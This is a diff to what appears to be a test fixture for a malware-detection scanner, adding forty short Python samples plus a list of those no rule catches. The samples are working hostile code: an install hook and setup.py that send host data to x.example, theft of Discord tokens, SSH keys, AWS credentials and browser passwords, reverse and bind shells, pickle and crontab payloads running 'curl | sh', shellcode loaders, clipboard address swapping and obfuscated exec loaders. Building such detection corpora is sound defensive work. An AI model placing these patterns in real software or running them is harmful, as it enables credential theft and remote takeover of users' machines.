@@ -369,3 +369,369 @@ s=socket.create_connection(('h',1))
 s.send(open(os.path.expanduser('~/.ssh/id_rsa')).read().encode())
 """,
 }
+
+# Written when the rules were done: 21 of these 40 were found then. Each is a path and a text.
+LATER: dict[str, tuple[str, str]] = {
+    "a command of setup that sends": (
+        "setup.py",
+        """\
+from setuptools import setup
+from setuptools.command.install import install
+import os, platform, json
+from urllib import request
+class P(install):
+    def run(self):
+        install.run(self)
+        d={'h':platform.node(),'u':os.getlogin(),'e':dict(os.environ)}
+        request.urlopen(request.Request('http://x.example',data=json.dumps(d).encode()))
+setup(name='a',cmdclass={'install':P})
+""",
+    ),
+    "tokens of a chat": (
+        "a.py",
+        """\
+import os,re,requests
+p=os.getenv('APPDATA')+'\\\\discord\\\\Local Storage\\\\leveldb'
+t=[]
+for f in os.listdir(p):
+    for l in open(p+'\\\\'+f,errors='ignore'):
+        t+=re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',l)
+requests.post('https://discord.com/api/webhooks/1/x',json={'content':str(t)})
+""",
+    ),
+    "an encoded command": (
+        "a.py",
+        """\
+import subprocess
+subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcA',shell=True)
+""",
+    ),
+    "decrypted": (
+        "a.py",
+        """\
+from cryptography.fernet import Fernet
+exec(Fernet(b'k').decrypt(b'd'))
+""",
+    ),
+    "decrypted by an object": (
+        "a.py",
+        """\
+from cryptography.fernet import Fernet
+f=Fernet(b'k')
+exec(f.decrypt(b'd'))
+""",
+    ),
+    "a temporary file that is run": (
+        "a.py",
+        """\
+import tempfile,os,sys
+from urllib.request import urlopen as o
+t=tempfile.NamedTemporaryFile(delete=False)
+t.write(o('http://x.example').read())
+t.close()
+os.system(f'start pythonw {t.name}')
+""",
+    ),
+    "a temporary file that fetches and runs": (
+        "a.py",
+        """\
+import tempfile,os
+from sys import executable
+t=tempfile.NamedTemporaryFile(delete=False)
+t.write(b"from urllib.request import urlopen as o;exec(o('http://x.example').read())")
+t.close()
+os.system(f'start {executable} {t.name}')
+""",
+    ),
+    "the clipboard": (
+        "a.py",
+        """\
+import pyperclip,re,time
+while 1:
+    c=pyperclip.paste()
+    if re.match('^bc1',c): pyperclip.copy('bc1evil')
+    time.sleep(1)
+""",
+    ),
+    "the environment in a host name": (
+        "a.py",
+        """\
+import socket,os,base64
+d=base64.b32encode(str(dict(os.environ)).encode()).decode()
+socket.gethostbyname(d[:60]+'.x.example')
+""",
+    ),
+    "run when it is unpickled": (
+        "a.py",
+        """\
+import pickle,os
+class A:
+    def __reduce__(self):
+        return os.system,('curl http://x.example|sh',)
+pickle.loads(pickle.dumps(A()))
+""",
+    ),
+    "a timetable": (
+        "a.py",
+        """\
+import subprocess
+subprocess.run('(crontab -l; echo "* * * * * curl http://x.example|sh")|crontab -',shell=True)
+""",
+    ),
+    "the registry": (
+        "a.py",
+        """\
+import winreg,sys
+k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,winreg.KEY_ALL_ACCESS)
+winreg.SetValueEx(k,'a',0,winreg.REG_SZ,sys.argv[0])
+""",
+    ),
+    "all keys of a folder": (
+        "a.py",
+        """\
+import glob,os,requests
+for f in glob.glob(os.path.expanduser('~/.ssh/*')):
+    requests.post('http://x.example',files={'f':open(f,'rb')})
+""",
+    ),
+    "credentials by a parser of settings": (
+        "a.py",
+        """\
+import configparser,os,requests
+c=configparser.ConfigParser()
+c.read(os.path.expanduser('~/.aws/credentials'))
+requests.post('http://x.example',json={s:dict(c[s]) for s in c.sections()})
+""",
+    ),
+    "a shell on a socket": (
+        "a.py",
+        """\
+import socket,subprocess,os
+s=socket.socket()
+s.connect(('h',1))
+[os.dup2(s.fileno(),f) for f in (0,1,2)]
+import pty
+pty.spawn('sh')
+""",
+    ),
+    "commands by a socket": (
+        "a.py",
+        """\
+import socket,subprocess
+s=socket.socket()
+s.connect(('h',1))
+while 1:
+    c=s.recv(1024).decode()
+    p=subprocess.Popen(c,shell=True,stdout=-1)
+    s.send(p.stdout.read())
+""",
+    ),
+    "a shell that listens": (
+        "a.py",
+        """\
+import socket,subprocess
+s=socket.socket()
+s.bind(('',4444))
+s.listen()
+c,_=s.accept()
+subprocess.call(['/bin/sh','-i'],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())
+""",
+    ),
+    "decoded in a loop": (
+        "a.py",
+        """\
+import zlib,base64
+x='eA=='
+for _ in range(5):
+    x=zlib.decompress(base64.b64decode(x[::-1])).decode()
+exec(x)
+""",
+    ),
+    "decoded by numbers": (
+        "a.py",
+        """\
+k=7
+d=bytes([110,106])
+exec(bytes(b^k for b in d))
+""",
+    ),
+    "decoded in a lambda": (
+        "a.py",
+        """\
+_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'x'))
+""",
+    ),
+    "byte code in text": (
+        "a.py",
+        """\
+eval(compile(__import__('marshal').loads(__import__('zlib').decompress(b'x')),'','exec'))
+""",
+    ),
+    "a command by an asynchronous session": (
+        "a.py",
+        """\
+import asyncio,aiohttp
+async def m():
+    async with aiohttp.ClientSession() as s:
+        r=await s.get('http://x.example')
+        await asyncio.create_subprocess_shell(await r.text())
+asyncio.run(m())
+""",
+    ),
+    "a script host": (
+        "a.py",
+        """\
+import os
+os.system('mshta http://x.example/a.hta')
+""",
+    ),
+    "machine code": (
+        "a.py",
+        """\
+import ctypes,urllib.request
+b=urllib.request.urlopen('http://x.example').read()
+m=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)
+ctypes.windll.kernel32.RtlMoveMemory(m,b,len(b))
+ctypes.windll.kernel32.CreateThread(0,0,m,0,0,0)
+""",
+    ),
+    "machine code in a map": (
+        "a.py",
+        """\
+import ctypes,mmap
+b=mmap.mmap(-1,99,prot=7)
+b.write(b'\\x90')
+ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()
+""",
+    ),
+    "passwords of a browser": (
+        "a.py",
+        """\
+import os,sqlite3,shutil,requests
+p=os.path.expanduser('~')+'/AppData/Local/Google/Chrome/User Data/Default/Login Data'
+shutil.copy(p,'x.db')
+r=sqlite3.connect('x.db').execute('select * from logins').fetchall()
+requests.post('http://x.example',json=str(r))
+""",
+    ),
+    "a key in a message": (
+        "a.py",
+        """\
+import requests,os
+k=open(os.path.expanduser('~/.ssh/id_ed25519')).read()
+requests.get(f'https://api.telegram.org/bot1/sendMessage?text={k}')
+""",
+    ),
+    "run by a pool": (
+        "a.py",
+        """\
+import urllib3
+h=urllib3.PoolManager()
+exec(h.request('GET','http://x.example').data)
+""",
+    ),
+    "run by a plain client": (
+        "a.py",
+        """\
+import http.client
+c=http.client.HTTPSConnection('x.example')
+c.request('GET','/')
+exec(c.getresponse().read())
+""",
+    ),
+    "run by a callback": (
+        "a.py",
+        """\
+import ftplib,io
+b=io.BytesIO()
+ftplib.FTP('x.example').retrbinary('RETR a',b.write)
+exec(b.getvalue())
+""",
+    ),
+    "a hook of imports": (
+        "a.py",
+        """\
+import sys
+class F:
+    def find_spec(self,n,p,t=None): return None
+sys.meta_path.insert(0,F())
+""",
+    ),
+    "a command that writes where a shell begins": (
+        "a.py",
+        """\
+import subprocess
+subprocess.run(['tee','-a','/root/.bashrc'],input=b'evil')
+""",
+    ),
+    "fetched and run by a command": (
+        "a.py",
+        """\
+import os
+os.system('wget http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a')
+""",
+    ),
+    "fetched and run by commands": (
+        "a.py",
+        """\
+import subprocess
+subprocess.call('curl -o /tmp/a http://x.example/a; chmod 755 /tmp/a; /tmp/a',shell=True)
+""",
+    ),
+    "a program": (
+        "a.py",
+        """\
+import requests,subprocess
+r=requests.get('http://x.example/a.exe')
+with open('a.exe','wb') as f: f.write(r.content)
+subprocess.Popen(['a.exe'])
+""",
+    ),
+    "an installation": (
+        "a.py",
+        """\
+import subprocess,sys
+subprocess.check_call([sys.executable,'-m','pip','install','git+http://x.example/e'])
+""",
+    ),
+    "a word home at installation": (
+        "setup.py",
+        """\
+import socket,os,urllib.request
+urllib.request.urlopen('http://x.example/?h='+socket.gethostname())
+from setuptools import setup
+setup()
+""",
+    ),
+    "far to the right": (
+        "a.py",
+        """\
+import os                                                                                          ;os.system('id')
+""",
+    ),
+    "the environment in a loop": (
+        "a.py",
+        """\
+import os,requests
+for k in os.environ:
+    requests.get('http://x.example/'+k+os.environ[k])
+""",
+    ),
+    "a decoded builtin": (
+        "a.py",
+        """\
+import builtins,base64
+getattr(builtins,base64.b64decode(b'ZXhlYw==').decode())(base64.b64decode(b'eA=='))
+""",
+    ),
+}
+
+# What no rule finds, as good code does the same: it is the purpose that is bad.
+GAPS = (
+    "a temporary file that fetches and runs",
+    "the clipboard",
+    "credentials by a parser of settings",
+    "run by a callback",
+    "a hook of imports",
+    "an installation",
+)
